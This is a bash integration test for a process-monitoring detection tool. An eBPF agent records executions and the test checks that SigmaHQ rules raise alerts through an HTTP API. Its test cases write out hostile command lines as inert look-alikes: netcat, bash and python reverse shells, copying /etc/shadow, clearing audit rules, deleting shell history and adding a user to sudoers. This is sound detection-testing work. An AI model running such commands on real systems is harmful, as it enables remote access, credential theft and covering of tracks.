#!/usr/bin/env bash
# Detection end to end: a real agent (eBPF) records what this test runs, the collector
# evaluates 30 SigmaHQ rules on every stored exec, and each behaviour finds its alert through
# the HTTP API (/api/v1/alerts, its filters and cursor, /api/v1/alerts/stream); near misses
# (the same tools, harmless arguments) find none.
#
# The behaviours are look-alikes: copies of /bin/true named after the tool, run with the
# arguments the rule describes (argv[0] set to the tool's name), so `auditctl -D`, a netcat
# reverse shell or `chmod +x /tmp/x` are recorded as such and do nothing. One is real and
# harmless: `sh -c 'echo ZWNobyBoaQ== | base64 -d | sh -s TOKEN'` (it prints "hi"). The git
# case runs a copy of dash named git, so the rule's parent fields (process.parent.*) are real.
. "$(dirname "$0")/api_lib.bash"

if [ "$(id -u)" -ne 0 ]; then
	echo "needs root (eBPF)"
	exit 77
fi
AGENT=$B/proctrail-agent
[ -x "$AGENT" ] || fail "missing $AGENT"
RULES=$ROOT/tests/integration/sigma

deploy det-agent
cp -r "$RULES" "$T/rules"
printf 'title: broken\nlogsource: [\n' >"$T/rules/zz_broken.yml"
operator ana read
start_api --rules "$T/rules"
grep -q "rules $T/rules: 30 loaded, 1 refused (start)" "$T/server.log" || fail "rule load line"
grep -q "zz_broken.yml refused: YAML" "$T/server.log" || fail "refused rule not logged"
ok "30 rules loaded, the broken file refused and logged with its reason"

PIN=/sys/fs/bpf/ptd_$$
mkdir -p "$T/spool"
A=$H/agents/det-agent
"$AGENT" --collector "127.0.0.1:$PORT" --ca "$A/ca.crt" --cert "$A/agent.crt" --key "$A/agent.key" \
	--spool-dir "$T/spool" --pin-dir "$PIN" >"$T/agent.log" 2>&1 &
AGENT_PID=$!
BIN=$(mktemp -d /run/ptdet.XXXXXX)   # not under /tmp: the paths themselves match no rule
stop_agent() {
	kill -TERM "$AGENT_PID" 2>/dev/null || true
	wait "$AGENT_PID" 2>/dev/null || true
	"$AGENT" --uninstall --pin-dir "$PIN" >/dev/null 2>&1 || true
	rm -rf "$BIN"
}
trap 'stop_agent; cleanup' EXIT
for _ in $(seq 300); do
	grep -q "agent det-agent .* connected" "$T/server.log" && break
	kill -0 "$AGENT_PID" 2>/dev/null || { tail -20 "$T/agent.log"; fail "agent exited"; }
	sleep 0.1
done
grep -q "agent det-agent .* connected" "$T/server.log" || fail "agent never connected"

# rule id | command line (argv[0] is the tool, a copy of /bin/true under $BIN)
CASES=(
	"bed26dea-4525-47f4-b24a-76e30e44ffb0|auditctl -D"
	"e2072cab-8c9a-459b-b63c-40ae79e27031|base64 -d /root/payload.b64"
	"ed447910-bc30-4575-a598-3a2e49516a7a|setcap cap_setuid+ep /root/x"
	"d8d97d51-122d-4cdd-9e2f-01b4b4933530|getcap -r /"
	"34979410-e4b5-4e5d-8cfb-389fdff05c12|chattr -i /etc/resolv.conf"
	"6419afd1-3742-47a5-a7e6-b50386cd15f8|chmod +x /tmp/implant"
	"403ed92c-b7ec-4edd-9947-5b535ee12d46|crontab -l"
	"c2e234de-03a3-41e1-b39a-1e56dc17ba67|crontab -r"
	"6b14bac8-3e3a-4324-8109-42f0546a347f|crontab /tmp/evil.cron"
	"7f734ed0-4f47-46c0-837f-6ee62505abd9|nc -e /bin/sh 10.0.0.1 4444"
	"fa4aaed5-4fe0-498d-bbc0-08e3346387ba|cp /etc/shadow /tmp/s"
	"4cad6c64-d6df-42d6-8dae-eb78defdc415|dd if=/root/sc of=/proc/1234/mem"
	"ec52985a-d024-41e3-8ff6-14169039a0b3|mount -o remount,rw,hidepid=2 /proc"
	"999c3b12-0a8c-40b6-8e13-dd7d62b75c7a|mkfifo /tmp/f"
	"457df417-8b9d-4912-85f3-9dbda39c3645|nohup /tmp/miner"
	"bed978f8-7f3a-432b-82c5-9286a9b3031a|env /bin/sh"
	"093d68c7-762a-42f4-9f46-95e79142571a|nice /bin/sh"
	"d27ab432-2199-483f-a297-03633c05bae6|grep x86_64"
	"b28e4eb3-8bbc-4f0c-819f-edfe8e2f25db|esxcli system account add -d x -i u -p p"
	"8c1a5675-cb85-452f-a298-b01b22a51856|awk BEGIN {system(\"/bin/sh\")}"
	"6adfbf8f-52be-4444-9bac-81b539624146|find . -exec /bin/sh ; -quit"
	"6104e693-a7d6-4891-86cb-49a258523559|bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
	"f2bed782-994e-4f40-9cd5-518198cb3fba|sudo --chroot /mnt id"
	"4b09c71e-4269-4111-9cdd-107d8867f0cc|flock -u / /bin/sh -p"
	"32e62bc7-3de0-4bb1-90af-532978fe42c0|python3 -c import socket,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));pty.spawn(\"sh\")"
	"1182f3b3-e716-4efa-99ab-d2685d04360f|rm -f /root/.bash_history"
	"6a50f16c-3b7b-42d1-b081-0fdd3ba70a73|usermod -aG sudoers mallory"
)
# The same tools with arguments that differ where the rule looks: no alert at all.
NEAR=(
	"auditctl -l"
	"base64 -w0 /root/file"
	"setcap cap_net_raw+ep /root/x"
	"crontab -e"
	"chmod +x /home/u/tool"
	"nc -z 10.0.0.1 4444"
	"cp /etc/hosts /root/h"
	"dd if=/dev/zero of=/root/img bs=1M count=1"
	"grep -i x86_64 /proc/cpuinfo"
	"bash -c true"
	"usermod -aG users mallory"
	"python3 -c print(1)"
)

run_case() { # command line: argv[0] is the tool's name, the file a copy of /bin/true
	local -a argv
	read -r -a argv <<<"$1"
	[ -e "$BIN/${argv[0]}" ] || cp /bin/true "$BIN/${argv[0]}"
	# the words as they are (no globbing: '*' and ';' are arguments here)
	(cd / && exec -a "${argv[0]}" "$BIN/${argv[0]}" "${argv[@]:1}")
}
set -f
for n in "${NEAR[@]}"; do run_case "$n"; done
for c in "${CASES[@]}"; do run_case "${c#*|}"; done
set +f
# Real, harmless: a decoded script piped into a shell (base64_execution, susp_pipe_shell).
TOKEN=tok$$
sh -c "echo ZWNobyBoaQ== | base64 -d | sh -s $TOKEN" >"$T/pipe.out"
grep -qx hi "$T/pipe.out" || fail "the piped script did not run"
# Parent fields: a copy of dash named git runs `git -c SCRIPT x -p help`; its child's command
# line holds `sh 0<&1` (git_shell_execution: ParentImage, ParentCommandLine, CommandLine).
cp "$(readlink -f /bin/sh)" "$BIN/git"
(cd / && exec -a git "$BIN/git" -c "$BIN/auditctl 'sh 0<&1'; :" x -p help)
ok "ran ${#CASES[@]} behaviours, ${#NEAR[@]} near misses, a real pipe and a git parent"

# every page of /api/v1/alerts?QUERY, one alert a line, into $T/alerts.json
alerts() {
	local q=${1:-limit=7} cur= page=0
	: >"$T/alerts.json"
	while :; do
		api ana "/api/v1/alerts?$q${cur:+&cursor=$cur}" >"$T/page.json"
		[ "$(status)" = 200 ] || fail "alerts?$q: status $(status): $(cat "$T/page.json")"
		jq -c '.alerts[]' "$T/page.json" >>"$T/alerts.json"
		cur=$(jq -r '.next_cursor // empty' "$T/page.json")
		[ -n "$cur" ] || break
		page=$((page + 1))
		[ "$page" -lt 1000 ] || fail "paging does not end"
	done
}
# jq -e of jq 1.6 judges only the last input: "any line selected" is a non-empty output
jany() { [ -n "$(jq -c "$@")" ]; }
want=$(( ${#CASES[@]} + 3 ))
found=0
for _ in $(seq 300); do
	alerts
	found=$(jq -r --arg b "$BIN/" --arg t "$TOKEN" \
		'select((.event.process.executable | startswith($b)) or
			(.event.process.command_line | contains($t))) | .rule.id' "$T/alerts.json" |
		sort -u | wc -l)
	[ "$found" -ge "$want" ] && break
	sleep 0.2
done

has_alert() { # rule id, command line, [parent executable]
	jany --arg r "$1" --arg c "$2" --arg b "$BIN/" \
		'select(.rule.id == $r and .event.process.command_line == $c and
			(.event.process.executable | startswith($b)))' "$T/alerts.json"
}
for c in "${CASES[@]}"; do
	has_alert "${c%%|*}" "${c#*|}" || fail "no alert of rule ${c%%|*} for '${c#*|}'"
done
ok "each of the ${#CASES[@]} look-alike behaviours made its rule's alert"
for r in ba592c6d-6888-43c3-b8c6-689b8fe47337 880973f3-9708-491c-a77b-2a35a1921158; do
	jany --arg r "$r" --arg t "$TOKEN" \
		'select(.rule.id == $r and (.event.process.command_line | contains($t)))' \
		"$T/alerts.json" || fail "the real pipe did not alert rule $r"
done
ok "the real 'base64 -d | sh' pipe alerted both pipe rules"
jany --arg b "$BIN/git" 'select(.rule.id == "47b3bbd4-1bf7-48cc-84ab-995362aaa75a" and
	.event.process.parent.executable == $b and
	(.event.process.command_line | contains("sh 0<&1")))' "$T/alerts.json" ||
	fail "no git_shell_execution alert with the parent's fields"
ok "a rule on ParentImage/ParentCommandLine matched on the recorded parent"
expect_eq "distinct rules alerted by this test" "$found" "$want"

# Near misses: stored (so they were evaluated) and without any alert.
"$PT" --home "$H" events --json | jq -c --arg b "$BIN/" \
	'select(.event.action == "exec" and (.process.executable | startswith($b)))' >"$T/ours.json"
for n in "${NEAR[@]}"; do
	jany --arg c "$n" 'select(.process.command_line == $c)' "$T/ours.json" ||
		fail "near miss '$n' not stored"
	if jany --arg c "$n" --arg b "$BIN/" 'select(.event.process.command_line == $c and
		(.event.process.executable | startswith($b)))' "$T/alerts.json"; then
		fail "near miss '$n' alerted: $(jq -c --arg c "$n" 'select(.event.process.command_line == $c) | .rule' "$T/alerts.json")"
	fi
done
ok "the ${#NEAR[@]} near misses are stored and made no alert"
expect_eq "one alert per (event, rule)" \
	"$(q "SELECT count(*) - count(DISTINCT event || ':' || rule_id) FROM alerts")" 0
expect_eq "alert ids over the cursor pages, each once" \
	"$(jq -r .alert_id "$T/alerts.json" | sort -u | wc -l)" "$(wc -l <"$T/alerts.json")"
# others' processes on this host can make alerts meanwhile: compare up to the newest seen
upto() { jq -r '.alert_id | tonumber' "$T/alerts.json" | sort -n | tail -1; }
expect_eq "every alert of the table through the API" "$(wc -l <"$T/alerts.json")" \
	"$(q "SELECT count(*) FROM alerts WHERE id <= $(upto)")"

# filters
alerts "rule=bed26dea-4525-47f4-b24a-76e30e44ffb0"
expect_eq "rule filter" "$(jq -r .event.process.command_line "$T/alerts.json" | sort -u)" "auditctl -D"
alerts "level=low&agent=det-agent"
[ -s "$T/alerts.json" ] || fail "no low alert"
expect_eq "level filter" "$(jq -r .rule.level "$T/alerts.json" | sort -u)" low
alerts "agent=nobody"
expect_eq "agent filter" "$(wc -l <"$T/alerts.json")" 0
alerts "from=1h&to=2099-01-01T00:00:00Z&limit=1000"
expect_eq "from/to" "$(wc -l <"$T/alerts.json")" "$(q "SELECT count(*) FROM alerts WHERE id <= $(upto)")"
alerts "to=2000-01-01T00:00:00Z"
expect_eq "to before every alert" "$(wc -l <"$T/alerts.json")" 0
api ana "/api/v1/alerts?severity=high" >/dev/null
expect_eq "unknown parameter" "$(status)" 400
api - "/api/v1/alerts" >/dev/null
expect_eq "no token" "$(status)" 401

# the live stream: an alert made after it opened arrives on it
curl -sS -N --cacert "$H/pki/ca.crt" -H "Authorization: Bearer $(cat "$T/ana.token")" \
	"https://127.0.0.1:$APORT/api/v1/alerts/stream?rule=bed26dea-4525-47f4-b24a-76e30e44ffb0" \
	>"$T/stream.txt" 2>/dev/null &
CURL_PID=$!
for _ in $(seq 100); do grep -q "proctrail alerts from" "$T/stream.txt" && break; sleep 0.1; done
run_case "auditctl -D -k live$$"
run_case "crontab -l"
for _ in $(seq 300); do grep -q "live$$" "$T/stream.txt" && break; sleep 0.2; done
kill "$CURL_PID" 2>/dev/null || true
wait "$CURL_PID" 2>/dev/null || true
grep -q "^event: alert" "$T/stream.txt" || fail "no alert on the stream"
grep "^data: " "$T/stream.txt" | sed 's/^data: //' >"$T/stream.json"
jany --arg c "auditctl -D -k live$$" 'select(.event.process.command_line == $c)' "$T/stream.json" ||
	fail "the new alert did not arrive on the stream"
expect_eq "the stream's rule filter" "$(jq -r .rule.id "$T/stream.json" | sort -u)" \
	bed26dea-4525-47f4-b24a-76e30e44ffb0
ok "/api/v1/alerts/stream delivered the alert made while it was open, filtered by rule"

"$PT" --home "$H" alerts >"$T/alerts.txt" 2>&1 || true
grep -q "auditctl" "$T/alerts.txt" || fail "alerts table output: $(head -c 2000 "$T/alerts.txt")"
ok "proctrail alerts prints the table"
stop_agent
stop_server
